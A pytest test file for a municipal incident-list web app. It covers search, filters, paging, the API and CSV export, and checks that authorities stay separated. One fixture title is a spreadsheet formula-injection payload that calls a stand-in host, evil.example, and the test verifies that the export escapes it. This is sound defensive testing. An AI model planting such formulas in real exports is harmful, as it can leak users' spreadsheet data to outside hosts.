"""The incident lists people work from: search (?q=), the filters of the URL contract, CSV of the view, late marks.

The URL contract (web/listfilters.py) is the same on /incidents, /inbox and /api/incidents;
a specialist never sees another authority's incident through q, a filter or the CSV.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import select

from pipeline.accounts.users import add_token
from pipeline.incidents import sync_authorities
from storage import PostRecord, upsert_posts, web_repo
from storage.models import Incident, IncidentPost, Post
from tests.test_web_security import add_users, login, make_ctx
from web.app import create_app

NOW = datetime.now(timezone.utc).replace(microsecond=0)


def ids_of(page: str) -> list[int]:
    return [int(x) for x in re.findall(r'data-incident-id="(\d+)"', page)]


@pytest.fixture
def town(db_url: str):
    """Incidents of two authorities with posts: heating (A, late first reply), a road (A), water (B), a formula title (A)."""
    app = make_ctx(db_url)
    with app.db.session() as s:
        sync_authorities(s, app.region)
        auths = web_repo.authorities(s, app.region.code)
        a, b = auths[0], auths[1]
        region = app.region.code

        def incident(title: str, text_: str, authority, n: int, **kw) -> int:
            upsert_posts(s, [PostRecord(platform="vk", source_key=kw.pop("source", "vk:-1"), external_id=str(n), published_at=NOW - timedelta(days=1), text=text_)])
            post_id = s.scalar(select(Post.id).where(Post.external_id == str(n)))
            values = dict(region=region, title=title, sector="housing", state="routed", authority_id=authority.id, created_at=datetime(2026, 11, 20, 5, 0, tzinfo=timezone.utc), municipality="kemerovo", urgency="normal")
            values.update(kw)
            inc = Incident(**values)
            s.add(inc)
            s.flush()
            s.add(IncidentPost(incident_id=inc.id, post_id=post_id))
            return inc.id

        ids = {
            "heat": incident("Нет тепла в доме на Ленина", "Второй день нет отопления в доме 5 по улице Ленина", a, 1,
                             first_reply_due=NOW - timedelta(hours=10), first_reply_at=NOW - timedelta(hours=2), state="answered",
                             interim_due=NOW + timedelta(days=2), final_due=NOW + timedelta(days=9)),
            "road": incident("Яма на дороге", "Огромная яма на дороге у школы, машины бьются", a, 2, sector="roads", municipality="novokuznetsk",
                             urgency="high", first_reply_due=NOW - timedelta(hours=3), source="tg:roads",
                             created_at=datetime(2026, 12, 1, 18, 0, tzinfo=timezone.utc)),  # 2 December in Novokuznetsk (UTC+7)
            "water": incident("Нет воды", "Нет отопления и воды в школе", b, 3, first_reply_due=NOW + timedelta(hours=5)),
            "formula": incident('=HYPERLINK("http://evil.example/?"&A1;"жми")', "отопление =1+1", a, 4, first_reply_due=NOW + timedelta(days=1)),
        }
        tokens = {"a": add_token(s, region, a.code, NOW, "test")}
        auth = {"a": a.id, "b": b.id}
        codes = {"a": a.code, "b": b.code}
    add_users(app, [("op", "operator", None), ("spec_a", "specialist", codes["a"])])
    yield {"app": app, "ids": ids, "auth": auth, "tokens": tokens}
    app.db.dispose()


async def test_search_finds_by_a_word_in_any_form_on_every_list(town, aiohttp_client):
    ids = town["ids"]
    client = await aiohttp_client(create_app(town["app"]))
    await login(client, "op")
    page = await (await client.get("/incidents?q=отоплением")).text()
    assert set(ids_of(page)) == {ids["heat"], ids["water"], ids["formula"]}
    assert 'value="отоплением"' in page  # the header box and the filter keep the query
    assert set(ids_of(await (await client.get("/incidents?q=тепло+Ленина")).text())) == {ids["heat"]}
    assert set(ids_of(await (await client.get(f"/incidents?q=№{ids['road']}")).text())) == {ids["road"]}
    assert set(ids_of(await (await client.get("/inbox?q=дороги")).text())) == {ids["road"]}
    empty = await (await client.get("/incidents?q=слонами")).text()
    assert ids_of(empty) == [] and "Ничего не найдено" in empty


async def test_a_specialist_never_sees_another_authority_through_q_or_csv(town, aiohttp_client):
    ids = town["ids"]
    client = await aiohttp_client(create_app(town["app"]))
    await login(client, "spec_a")
    for path in ("/incidents?q=воды", "/inbox?q=воды", f"/incidents?q=воды&authority={town['auth']['b']}", f"/inbox?q={ids['water']}"):
        assert ids["water"] not in ids_of(await (await client.get(path)).text()), path
    assert set(ids_of(await (await client.get("/inbox?q=отопления")).text())) == {ids["heat"], ids["formula"]}
    body = await (await client.get(f"/incidents.csv?q=отопления&authority={town['auth']['b']}")).text()
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    assert {int(r["№"]) for r in rows} == {ids["heat"], ids["formula"]}
    inbox = await (await client.get("/inbox")).text()
    assert 'class="auth"' not in inbox  # the specialist's own authority is not repeated in every row
    assert 'name="authority"' not in inbox


async def test_csv_of_the_view_has_the_filters_and_no_formulas(town, aiohttp_client):
    ids = town["ids"]
    client = await aiohttp_client(create_app(town["app"]))
    await login(client, "op")
    page = await (await client.get("/incidents?q=отопление&sector=housing")).text()
    assert 'href="/incidents.csv?q=%D0%BE%D1%82%D0%BE%D0%BF%D0%BB%D0%B5%D0%BD%D0%B8%D0%B5&amp;sector=housing"' in page
    r = await client.get("/incidents.csv?q=отопление&sector=housing")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO((await r.text()).lstrip("\ufeff"))))
    assert {int(x["№"]) for x in rows} == {ids["heat"], ids["water"], ids["formula"]}
    formula = next(x for x in rows if int(x["№"]) == ids["formula"])
    assert formula["Суть"].startswith("'=HYPERLINK(")
    assert all(not v.startswith(("=", "+", "-", "@")) for x in rows for v in x.values())
    heat = next(x for x in rows if int(x["№"]) == ids["heat"])
    assert heat["Ответы с опозданием"] == "первичный ответ" and heat["Направление"] == "ЖКХ"
    assert (await client.get("/incidents.csv?from=вчера")).status == 400


async def test_filters_of_the_url_contract(town, aiohttp_client):
    ids = town["ids"]
    client = await aiohttp_client(create_app(town["app"]))
    await login(client, "op")

    async def got(query: str) -> set[int]:
        r = await client.get("/incidents?" + query)
        assert r.status == 200, query
        return set(ids_of(await r.text()))

    assert await got("municipality=novokuznetsk") == {ids["road"]}
    assert await got("urgency=high") == {ids["road"]}
    assert await got("source=tg:roads") == {ids["road"]}
    page = await (await client.get("/incidents?source=tg:roads")).text()
    assert re.search(r"Источник: [^<]*: roads ·", page) and "все источники" in page  # by name, not the key
    assert await got("category=") == set(ids.values())
    assert await got("from=2026-12-02&to=2026-12-02") == {ids["road"]}  # a day in the region's zone
    assert ids["road"] not in await got("to=2026-12-01")
    assert await got("overdue=1") == {ids["road"]}  # the late-answered incident is no longer overdue
    assert await got(f"authority={town['auth']['b']}") == {ids["water"]}
    page = await (await client.get("/incidents?sort=-opened")).text()
    assert ids_of(page)[0] == ids["road"]  # the newest
    page = await (await client.get("/incidents?sort=opened")).text()
    assert ids_of(page)[-1] == ids["road"]
    bad = await client.get("/incidents?from=2026-13-45&sort=sideways")
    assert bad.status == 200
    text = await bad.text()
    assert "не распознана" in text and "Порядок" in text and set(ids_of(text)) == set(ids.values())
    # late answers and overdue stages are marked
    page = await (await client.get("/incidents")).text()
    heat_row = re.search(rf'<tr class="[^"]*" data-incident-id="{ids["heat"]}">.*?</tr>', page, re.S).group(0)
    assert "с опозданием" in heat_row
    road_row = re.search(rf'<tr class="overdue" data-incident-id="{ids["road"]}">.*?</tr>', page, re.S).group(0)
    assert "просрочено" in road_row


async def test_the_pager_keeps_q_and_the_filters(town, aiohttp_client):
    from web.views import incidents as views

    client = await aiohttp_client(create_app(town["app"]))
    await login(client, "op")
    old = views.PAGE_SIZE
    views.PAGE_SIZE = 1
    try:
        page = await (await client.get("/incidents?q=отопление&municipality=kemerovo&overdue=&sort=opened")).text()
    finally:
        views.PAGE_SIZE = old
    nxt = re.search(r'<a class="next" rel="next" href="([^"]+)"', page).group(1)
    assert "q=%D0%BE%D1%82" in nxt and "municipality=kemerovo" in nxt and "sort=opened" in nxt and "cursor=" in nxt


async def test_the_api_list_takes_the_same_parameters(town, aiohttp_client):
    ids = town["ids"]
    client = await aiohttp_client(create_app(town["app"]))
    h = {"Authorization": f"Bearer {town['tokens']['a']}"}
    body = await (await client.get("/api/incidents?q=отопления", headers=h)).json()
    assert {i["id"] for i in body["incidents"]} == {ids["heat"], ids["formula"]}  # never B's water
    body = await (await client.get("/api/incidents?overdue=1&sort=due&municipality=novokuznetsk&from=2026-12-02", headers=h)).json()
    assert [i["id"] for i in body["incidents"]] == [ids["road"]]
    body = await (await client.get(f"/api/incidents?q=воды&authority={town['auth']['b']}", headers=h)).json()
    assert body["incidents"] == []
    r = await client.get("/api/incidents?from=2026-02-30", headers=h)
    assert r.status == 400 and "не распознана" in (await r.json())["error"]
